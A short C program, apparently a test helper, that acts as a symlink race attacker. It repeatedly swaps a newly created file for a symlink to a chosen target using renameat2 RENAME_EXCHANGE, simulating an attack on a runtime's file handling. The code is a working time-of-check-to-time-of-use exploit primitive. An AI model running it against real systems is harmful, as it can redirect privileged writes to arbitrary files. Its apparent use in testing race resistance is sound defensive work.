/* pounce SECONDS TARGET NAME: as soon as somebody makes NAME, exchanges it for a link to TARGET (renameat2 RENAME_EXCHANGE), and clears
   both away for the next one: the attacker who waits for what a runtime makes and changes by name a moment later. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char** argv) {
  if (argc != 4) return 2;
  char bait[4096];
  if (snprintf(bait, sizeof bait, "%s.bait", argv[3]) >= (int)sizeof bait) return 2;
  const time_t end = time(0) + atoi(argv[1]);
  long count = 0;
  while (time(0) < end) {
    if (symlink(argv[2], bait) != 0) return perror(bait), 1;
    for (int i = 0; i < 100000; i++)
      if (renameat2(AT_FDCWD, bait, AT_FDCWD, argv[3], RENAME_EXCHANGE) == 0) {
        count++;
        usleep(200000); /* the time to walk into it */
        unlink(argv[3]);
        break;
      }
    unlink(bait);
  }
  printf("%ld\n", count);
  return 0;
}
